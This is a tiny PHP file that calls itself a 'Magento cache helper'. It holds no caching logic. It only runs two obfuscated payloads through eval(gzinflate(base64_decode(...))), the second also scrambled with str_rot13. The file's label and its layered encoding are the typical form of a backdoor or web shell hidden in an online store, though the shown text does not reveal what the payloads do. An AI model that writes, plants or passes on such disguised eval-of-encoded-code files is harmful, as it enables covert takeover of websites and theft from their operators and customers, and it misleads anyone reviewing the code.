<?php
/* Magento cache helper */
eval(gzinflate(base64_decode('Jcg7DoAgDADQqxBC0smyy+cupjYBBSUUjMd38I3PzABpjCartXLmivzkstB+Ib9bbYUt4SHgFFO6FXihnttQ0iloQDMRdPT23wjuAw==')));
eval(gzinflate(base64_decode(str_rot13('H6zjIp8bXFxbggYKY87BmAIYYpiZ0H1BlqAYeHwZYpuW1H/Bm8yWGF5EgjLN'))));
